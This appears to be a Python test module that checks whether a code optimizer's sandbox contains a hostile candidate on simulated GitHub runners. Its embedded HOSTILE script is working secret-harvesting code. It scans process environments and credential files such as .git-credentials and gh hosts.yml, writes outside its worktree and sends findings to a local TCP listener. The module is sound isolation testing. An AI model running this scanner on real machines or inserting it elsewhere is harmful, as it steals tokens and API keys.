"""A hostile candidate run under every isolation level this machine can produce.

Each *runner* is a way to start the optimizer's side (``python -m sandbox_probes``, which does
what the entrypoint does first: re-exec without its secrets, vault.protect) with the secrets in
its environment, on a layout shaped like a GitHub-hosted runner's: a home directory holding
credential files, the workspace checkout under it (actions/checkout's token in .git/config), a
runner temp directory (a checkout credentials file, the job's command files) and the candidate's
worktree under /tmp. The candidate scans every /proc/<pid>/environ, the home directory, the
workspace and the runner temp directory for the secret values, writes outside its worktree and
sends what it found to a TCP server of ours on 127.0.0.1.

Every runner is a machine of its own (see :func:`machine`). The simulated hosted runners run
the parent as a non-root user (uid 1001) in a user namespace of bubblewrap's: with
``--disable-userns`` nothing in it can create a user namespace (what AppArmor does on
ubuntu-24.04), without it bubblewrap works unprivileged (the runner after the Action's
isolation step).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from gitrepos import git, make_repo
from sandbox_probes import REPO_ROOT, SECRETS, SUPPORT

HOSTILE = """
import json, os, socket
SECRETS = {secrets!r}
SCAN = {scan!r}
WRITE = {write!r}

def hits(blob):
    return sorted(name for name, value in SECRETS.items() if value.encode() in blob)

def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 20)
    except OSError:
        return b""

found = {{"environ": {{}}, "files": {{}}, "written": [], "sent": False}}
for entry in os.listdir("/proc"):
    if entry.isdigit() and hits(read(f"/proc/{{entry}}/environ")):
        found["environ"][entry] = hits(read(f"/proc/{{entry}}/environ"))
for place in SCAN:
    paths = [place] if os.path.isfile(place) else [
        os.path.join(root, name) for root, _, names in os.walk(place) for name in names
    ]
    for path in paths:
        if hits(read(path)):
            found["files"][path] = hits(read(path))
for path in WRITE:
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write("written by a hostile candidate")
        found["written"].append(path)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall({tag!r}.encode() + b" " + json.dumps(found).encode())
        found["sent"] = True
except OSError:
    pass
print(json.dumps(found))
"""

# The checkout token, as actions/checkout persists it (in .git/config, or in a credentials file
# under RUNNER_TEMP that .git/config includes).
CHECKOUT_TOKEN = SECRETS["GITHUB_TOKEN"]


@dataclass(frozen=True)
class Runner:
    name: str
    env: Mapping[str, str]  # added to the parent's environment
    wrapper: tuple[str, ...] = ()  # what starts the parent (a simulated hosted runner)


@dataclass(frozen=True)
class Findings:
    runner: str
    isolation: str
    llm_gate: str  # "" when LLM methods may run, else the refusal's message
    unsafe_gate: str  # the same with OPTIMIZER_UNSAFE_RUN_CANDIDATES_WITHOUT_ISOLATION=true
    environ: dict[str, list[str]]
    files: dict[str, list[str]]
    written: list[str]
    sent: bool
    received: bytes

    @property
    def clean(self) -> bool:
        return not (self.environ or self.files or self.written or self.sent or self.received)


def machine(*, uid: int | None = None, userns: bool = True) -> tuple[str, ...]:
    """A runner machine of its own: the parent alone in a process namespace (pid 1, as the
    Action's entrypoint is once its step shell exec'd it; nothing else on the machine, like
    other tests' processes, is visible), through bubblewrap. With ``uid``: as that non-root user
    in a user namespace, where no user namespace can be made when ``userns`` is False."""
    bwrap = shutil.which("bwrap") or "bwrap"
    args = [bwrap, "--dev-bind", "/", "/"]
    if uid is not None:
        args += ["--unshare-user", "--uid", str(uid), "--gid", str(uid)]
        args += [] if userns else ["--disable-userns"]
    return (*args, "--unshare-pid", "--as-pid-1", "--proc", "/proc", "--die-with-parent", "--")


def path_without_bwrap(folder: Path) -> str:
    """A PATH where unshare is found but bubblewrap is not."""
    folder.mkdir(parents=True, exist_ok=True)
    for tool in ("unshare", "true", "git"):
        found = shutil.which(tool)
        if found and not (folder / tool).exists():
            (folder / tool).symlink_to(found)
    return str(folder)


def runners(scratch: Path) -> list[Runner]:
    no_bwrap = {"PATH": path_without_bwrap(scratch / "bin")}
    return [
        Runner("root, bubblewrap", {}, machine()),
        Runner("hosted runner after isolation set-up (uid 1001)", {}, machine(uid=1001)),
        Runner("root, no bubblewrap", no_bwrap, machine()),
        Runner("OPTIMIZER_SANDBOX=none", {"OPTIMIZER_SANDBOX": "none"}, machine()),
        Runner(
            "hosted runner, user namespaces denied (uid 1001)", {}, machine(uid=1001, userns=False)
        ),
    ]


@dataclass(frozen=True)
class Layout:
    home: Path
    workspace: Path
    runner_temp: Path
    worktree: Path
    outside: Path  # a folder outside everything the candidate may write

    def env(self) -> dict[str, str]:
        return {
            "HOME": str(self.home),
            "RUNNER_TEMP": str(self.runner_temp),
            "GITHUB_WORKSPACE": str(self.workspace),
            "INPUT_GITHUB_TOKEN": CHECKOUT_TOKEN,
            **SECRETS,
        }

    def scan(self) -> list[str]:
        return [str(self.home), str(self.runner_temp), str(self.workspace)]

    def targets(self, tag: str) -> list[str]:
        places = (self.home, self.workspace, self.runner_temp, self.outside)
        return [str(place / f"hostile-{tag}") for place in places]


def make_layout(root: Path, worktree: Path) -> Layout:
    """A hosted runner's shape under ``root`` (outside /tmp); the worktree under /tmp."""
    home = root / "home"
    workspace = make_repo(home / "work" / "repo" / "repo", {"mod.py": "x = 1\n"})
    git(workspace, "config", "http.https://github.com/.extraheader", f"basic {CHECKOUT_TOKEN}")
    temp = root / "home" / "work" / "_temp"
    files = {
        home / ".git-credentials": f"https://x-access-token:{CHECKOUT_TOKEN}@github.com\n",
        home / ".config" / "gh" / "hosts.yml": f"oauth_token: {CHECKOUT_TOKEN}\n",
        temp / "git-credentials-1234.config": f"[http]\n\textraheader = basic {CHECKOUT_TOKEN}\n",
        temp / "_runner_file_commands" / "set_env_1234": f"LLM_KEY={SECRETS['OPENAI_API_KEY']}\n",
    }
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    outside = root / "outside"
    outside.mkdir()
    git(workspace, "worktree", "add", "-q", "--detach", str(worktree))
    return Layout(home, workspace, temp, worktree, outside)


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that keeps whatever it is sent."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(3)
                chunks = []
                while chunk := connection.recv(65536):
                    chunks.append(chunk)
                received.append(b"".join(chunks))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        server.close()


def attack(
    runner: Runner, layout: Layout, port: int, received: list[bytes], *, protect: bool = True
) -> Findings:
    """Start the optimizer's side as ``runner`` does and let the hostile candidate loose.
    ``protect=False``: the parent keeps its secrets in its environment (before the vault)."""
    tag = re.sub(r"[^a-z0-9]+", "-", runner.name.lower()).strip("-")
    code = HOSTILE.format(
        secrets=SECRETS, scan=layout.scan(), write=layout.targets(tag), port=port, tag=tag
    )
    request = {
        "code": code, "cwd": str(layout.worktree), "timeout": 60, "memory_mb": 1024,
        "writable": [], "protect": protect,
    }  # fmt: skip
    env = {**os.environ, **layout.env(), **runner.env}
    env["PYTHONPATH"] = os.pathsep.join([str(REPO_ROOT), str(SUPPORT)])
    done = subprocess.run(
        [*runner.wrapper, sys.executable, "-m", "sandbox_probes", json.dumps(request)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, f"{runner.name}: the parent failed: {done.stderr[-3000:]}"
    data = json.loads(done.stdout)
    lines = data["stdout"].strip().splitlines()
    assert lines, f"{runner.name}: the candidate printed nothing: {data['stderr'][-3000:]}"
    report: dict[str, Any] = json.loads(lines[-1])
    return Findings(
        runner=runner.name,
        isolation=data["isolation"],
        llm_gate=data["llm_gate"],
        unsafe_gate=data["unsafe_gate"],
        environ=report["environ"],
        files=report["files"],
        written=report["written"],
        sent=report["sent"],
        received=b"".join(m for m in received if m.startswith(tag.encode() + b" ")),
    )


def table(findings: list[Findings]) -> str:
    """The figures, one line per runner."""
    rows = ["| runner | isolation | LLM methods | environ leaks | files with a secret | "
            "written outside | sent |", "|---|---|---|---|---|---|---|"]  # fmt: skip
    for f in findings:
        gate = "run" if not f.llm_gate else "refused"
        rows.append(
            f"| {f.runner} | {f.isolation} | {gate} | {len(f.environ)} | {len(f.files)} | "
            f"{len(f.written)} | {'yes' if f.sent else 'no'} |"
        )
    return "\n".join(rows)
